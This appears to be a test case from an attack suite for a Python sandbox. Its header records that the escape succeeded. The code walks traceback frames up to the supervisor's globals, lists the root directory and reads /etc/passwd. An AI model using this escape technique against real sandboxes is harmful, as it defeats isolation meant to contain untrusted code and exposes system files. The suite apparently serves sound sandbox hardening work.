# id: L09
# family: language
# goal: walk from a traceback, taken by pattern, to the frames of the supervisor's half
# finding: PY106 PY109 PY119 PY302 PY406
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    try:
        {}["missing"]
    except KeyError as error:
        match error:
            case KeyError(__traceback__=trace):
                frame = trace.tb_frame
    while frame is not None:
        if "sys" in frame.f_globals:
            return frame.f_globals["sys"].modules["posix"].listdir("/")
        frame = frame.f_back
    import sys

    return sys._getframe().f_globals["__builtins__"]["open"]("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
